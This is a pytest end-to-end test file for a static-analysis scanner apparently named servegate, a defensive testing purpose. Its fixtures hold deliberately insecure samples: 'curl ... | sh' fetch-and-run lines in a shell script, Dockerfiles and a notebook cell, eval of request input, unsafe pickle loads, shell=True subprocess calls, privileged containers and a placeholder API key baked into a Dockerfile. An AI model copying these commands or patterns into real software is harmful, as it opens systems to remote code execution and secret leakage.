"""The trouble cases of static analysis, each driven through the real command.

`tests/cases/<name>/case.json` says what each stands for and what is expected.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from tests.e2e.command import Done, case, processes_in, servegate

pytestmark = pytest.mark.e2e
SAST = ("--only", "sast")


def places(done: Done, rule: str) -> list[tuple[str, int]]:
    """Where a rule's findings are, suppressed ones left out."""
    return sorted(
        (source["location"]["path"], source["location"]["start_line"])
        for entry in done.result["findings"]
        if entry["status"] != "suppressed"
        for source in entry["sources"]
        if source["rule_id"] == rule
    )


def gaps(done: Done, engine: str) -> dict[str, str]:
    return {gap["subject"]: gap["reason"] for gap in done.engine(engine).get("gaps", [])}


def test_generated_5mb(tmp_path: Path) -> None:
    folder = case("sast-generated-5mb", tmp_path) / "made"
    done = servegate(".", *SAST, cwd=folder)
    assert ("serve.py", 5) in places(done, "sast/unsafe-model-load") + places(done, "sast/B301")
    for engine in ("bandit", "semgrep"):
        assert "vocab_table.py" in gaps(done, engine)
    assert done.code != 0
    assert done.seconds < 60
    assert not processes_in(folder)


def test_non_utf8_source(tmp_path: Path) -> None:
    folder = case("sast-non-utf8-source", tmp_path) / "repo"
    done = servegate(".", *SAST, cwd=folder)
    assert {path for path, _ in places(done, "sast/B307")} == {"legacy_cookie.py"}
    assert "legacy_nocookie.py" in gaps(done, "bandit")
    assert done.code != 0


def test_nosec_forms(tmp_path: Path) -> None:
    folder = case("sast-nosec-forms", tmp_path) / "repo"
    done = servegate(".", *SAST, cwd=folder)
    assert places(done, "sast/B602") == [("jobs.py", 10), ("jobs.py", 11)]
    hidden = {
        source["location"]["start_line"]: source["suppression"]
        for entry in done.result["findings"]
        for source in entry["sources"]
        if source["rule_id"] == "sast/B602" and source["suppression"]
    }
    assert sorted(hidden) == [5, 6, 7, 8, 9]
    assert [line for line in sorted(hidden) if hidden[line]["blanket"]] == [5, 8, 9]


def test_odd_filenames(tmp_path: Path) -> None:
    folder = case("sast-odd-filenames", tmp_path) / "made"
    done = servegate(".", *SAST, cwd=folder)
    found = places(done, "sast/B307")
    assert len(found) == 7
    assert {line for _, line in found} == {2}
    sarif: dict[str, Any] = json.loads((done.out / "results.sarif").read_text())
    uris = {
        place["physicalLocation"]["artifactLocation"]["uri"]
        for run in sarif["runs"]
        for result in run["results"]
        for place in result["locations"]
    }
    assert len(uris) == 7
    for uri in uris:
        assert (folder / unquote(uri)).is_file(), uri


IN_CAPITALS = {
    "APP.PY": "import pickle\nmodel = pickle.load(open('m.pkl', 'rb'))\n",
    "web.JS": "app.get('/', (req, res) => { eval(req.query.code); });\n",
    "RUN.SH": "#!/bin/sh\ncurl http://a.example/x | sh\n",
    "agent.Dockerfile": "FROM debian:12\nRUN curl http://a.example/x | sh\n",
    "dockerfile": "FROM debian:12\nRUN curl http://a.example/x | sh\n",
    "Docker-Compose.YML": "services:\n  web:\n    image: a\n    privileged: true\n",
    "MAIN.TF": 'resource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n',
    "POD.YAML": "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n"
    "  - {name: a, image: a, securityContext: {privileged: true}}\n",
}


def test_names_in_capitals(tmp_path: Path) -> None:
    """Engines are told the kind in the letters that they know, and every file is looked at."""
    for name, text in IN_CAPITALS.items():
        (tmp_path / name).write_text(text)
    done = servegate(".", "--skip", "dast", cwd=tmp_path, out=tmp_path / "out")
    states = {one["name"]: one["state"] for one in done.result["engines"]}
    ran = ("bandit", "checkov", "manifests", "semgrep")
    assert {name: states[name] for name in ran} == dict.fromkeys(ran, "completed"), done.text
    hit = {
        source["location"]["path"]
        for entry in done.result["findings"]
        for source in entry["sources"]
    }
    assert hit == set(IN_CAPITALS)


def test_python2_file(tmp_path: Path) -> None:
    folder = case("sast-python2-file", tmp_path) / "repo"
    done = servegate(".", *SAST, cwd=folder)
    assert ("serve.py", 6) in places(done, "sast/unsafe-model-load") + places(done, "sast/B301")
    assert "train_py2.py" in gaps(done, "bandit")
    (folder / "serve.py").unlink()
    assert servegate(".", *SAST, cwd=folder).code != 0


def test_symlinks(tmp_path: Path) -> None:
    folder = case("sast-symlinks", tmp_path) / "made"
    done = servegate("repo", *SAST, cwd=folder)
    assert places(done, "sast/B307") == [("pkg/real.py", 2)]
    findings = json.dumps(done.result["findings"])
    assert "elsewhere" not in findings
    assert "outside.py" not in findings
    for engine in ("bandit", "semgrep"):
        assert done.engine(engine)["targets"] == ["pkg/real.py"]
        assert "broken.py" not in gaps(done, engine)


def test_notebook(tmp_path: Path) -> None:
    folder = case("sast-notebook", tmp_path) / "repo"
    done = servegate(".", *SAST, cwd=folder)
    cells = {
        (source["location"]["cell"]["number"], source["location"]["cell"]["start_line"])
        for entry in done.result["findings"]
        for source in entry["sources"]
    }
    assert {(2, 4), (3, 2)} <= cells
    assert 1 not in {number for number, _ in cells}, "prose is not code"
    (notebook,) = (path.name for path in folder.glob("*.ipynb"))
    assert f"{notebook}:cell 2:4" in done.text
    lines = (folder / notebook).read_text().count("\n")
    sarif = json.loads((done.out / "results.sarif").read_text())
    for run in sarif["runs"]:
        for result in run["results"]:
            region = result["locations"][0]["physicalLocation"]["region"]
            assert 1 <= region["startLine"] <= lines
            assert "cell " in result["message"]["text"]
    for report in done.out.iterdir():
        assert "sk-EXAMPLEexampleEXAMPLE0123456789" not in report.read_text(), report
    assert done.code != 0


def test_the_statements_of_magics_are_scanned(tmp_path: Path) -> None:
    cells = [
        "import pickle, subprocess\n%time model = pickle.load(open('m.pkl', 'rb'))",
        "x = (",
        "%%timeit -n 1\n%matplotlib inline\nout = %time eval(input())",
        "%%writefile app.py\nimport subprocess\nsubprocess.run(name, shell=True)",
        "!curl -s https://example.org/x | sh",
        "%%bash\nrm -r x",
        "%matplotlib inline\nmodel = pickle.load(open('m.pkl', 'rb'))  # safe?",
    ]
    document = {
        "cells": [
            {"cell_type": "code", "metadata": {}, "outputs": [], "source": cell} for cell in cells
        ],
        "metadata": {"language_info": {"name": "python"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    (tmp_path / "n.ipynb").write_text(json.dumps(document, indent=1))
    (tmp_path / "r.ipynb").write_text(
        json.dumps({**document, "metadata": {"kernelspec": {"name": "ir"}}})
    )
    done = servegate(".", *SAST, cwd=tmp_path)
    found = {
        (
            source["rule_id"],
            source["location"]["cell"]["number"],
            source["location"]["cell"]["start_line"],
        )
        for entry in done.result["findings"]
        for source in entry["sources"]
        if source["location"].get("cell")
    }
    assert {("sast/unsafe-model-load", 1, 2), ("sast/unsafe-model-load", 7, 2)} <= found
    assert {("sast/B307", 3, 3), ("sast/B602", 4, 3)} <= found
    assert not {cell for _, cell, _ in found} & {2, 5, 6}
    assert gaps(done, "semgrep") == gaps(done, "bandit")
    assert gaps(done, "semgrep")["n.ipynb"].startswith("cell 2: ")
    assert "a notebook in ir" in gaps(done, "semgrep")["r.ipynb"]
    (note,) = [note for note in done.engine("semgrep")["notes"] if "other languages" in note]
    assert "cell 5: line 1 (a shell command), cell 6: %%bash" in note


def test_the_other_languages_of_a_model_app(tmp_path: Path) -> None:
    key = "sk-proj-9fQ2kLm4Zr7Xw1Bv8Tn3Yp6"
    files = {
        "web/chat.js": "bubble.innerHTML = completion.choices[0].message.content;\n",
        "web/Chat.tsx": "export const C = () => <b>{process.env.NEXT_PUBLIC_OPENAI_API_KEY}</b>;\n",
        "Dockerfile.gpu": f"FROM python:3.13\nENV OPENAI_API_KEY={key}\n",
        "docker/entrypoint": "#!/bin/sh\nexec vllm serve m --trust-remote-code\n",
        "compose.yaml": "services:\n  m:\n    image: a\n    privileged: true\n",
    }
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text)
    done = servegate(".", *SAST, cwd=tmp_path, out=tmp_path / "out")
    assert places(done, "sast/model-text-as-html") == [("web/chat.js", 1)]
    assert places(done, "sast/model-key-in-browser") == [("web/Chat.tsx", 1)]
    assert places(done, "sast/plaintext-secret-in-deployment-file") == [("Dockerfile.gpu", 2)]
    assert places(done, "sast/remote-code-in-launch-command") == [("docker/entrypoint", 2)]
    assert places(done, "sast/privileged-compose-service") == [("compose.yaml", 4)]
    assert done.engine("semgrep")["state"] == "completed"
    assert done.engine("semgrep")["targets"] == sorted(files)
    for report in (tmp_path / "out").iterdir():
        assert key not in report.read_text(), report


WORKFLOW = """\
name: a
on:
  pull_request:
permissions: {}
jobs:
  x:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "${{ github.event.pull_request.title }}"
      - run: echo "${{ github.event.pull_request.body }}" # zizmor: ignore[template-injection] known
      - run: echo "${{ github.head_ref }}" # zizmor: ignore[artipacked]
      - run: echo "${{ github.sha }}"
"""


def test_workflows_of_the_repository(tmp_path: Path) -> None:
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    (folder / "a.yml").write_text(WORKFLOW)
    (tmp_path / "zizmor.yml").write_text("rules:\n  template-injection:\n    disable: true\n")
    done = servegate(".", "--only", "zizmor", cwd=tmp_path)
    assert places(done, "sast/workflow-template-injection") == [
        (".github/workflows/a.yml", 9),
        (".github/workflows/a.yml", 11),
    ]
    (hidden,) = (entry for entry in done.result["findings"] if entry["status"] == "suppressed")
    assert hidden["sources"][0]["suppression"]["reason"] == "known"
    assert done.engine("zizmor")["state"] == "completed"
    assert done.code == 1


@pytest.mark.parametrize("others", [True, False])
def test_a_workflow_that_is_none_is_a_gap(tmp_path: Path, others: bool) -> None:
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    (folder / "broken.yml").write_text("on: [push\n")
    if others:
        (folder / "a.yml").write_text(WORKFLOW)
    done = servegate(".", "--only", "zizmor", cwd=tmp_path)
    assert list(gaps(done, "zizmor")) == [".github/workflows/broken.yml"]
    assert done.code == (1 if others else 3)


def test_a_rule_that_is_off_can_be_switched_on(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("assert allowed\n")
    assert not servegate(".", *SAST, cwd=tmp_path).result["findings"]
    (tmp_path / "servegate.toml").write_text('[scan]\nenable_rules = ["sast/B101"]\n')
    done = servegate(".", *SAST, cwd=tmp_path)
    assert places(done, "sast/B101") == [("a.py", 1)]
    (tmp_path / "servegate.toml").write_text('[scan]\nenable_rules = ["sast/B999"]\n')
    done = servegate(".", *SAST, cwd=tmp_path)
    assert done.code == 2
    assert "sast/B999" in done.text
